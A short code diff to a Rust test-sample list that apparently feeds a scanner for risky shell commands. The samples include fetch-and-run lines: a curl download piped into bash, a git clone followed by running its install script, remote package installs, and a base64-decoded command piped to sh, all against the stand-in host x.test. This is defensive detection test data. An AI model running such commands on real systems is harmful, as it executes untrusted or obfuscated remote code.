@@ -113,7 +113,8 @@ pub(crate) fn samples() -> Vec<Sample> {
     add("remote-package", "a.sh", "uvx some-tool\n", 1, 1);
     add("remote-package", "a.sh", "pip install git+https://x.test/a.git\n", 1, 1);
     add("remote-package", "a.sh", "npm install https://x.test/a.tgz\n", 1, 1);
-    add("remote-package", "a.sh", "curl -o tool.sh https://x.test/t\nls\nbash tool.sh\n", 1, 1);
+    add("remote-package", "a.sh", "git clone https://x.test/r /tmp/r && sh /tmp/r/install.sh\n", 1, 1);
+    add("fetch-and-run", "a.sh", "curl -o tool.sh https://x.test/t\nls\nbash tool.sh\n", 1, 1);
 
     let decoded = [
         "echo Y3VybA== | base64 -d | sh",
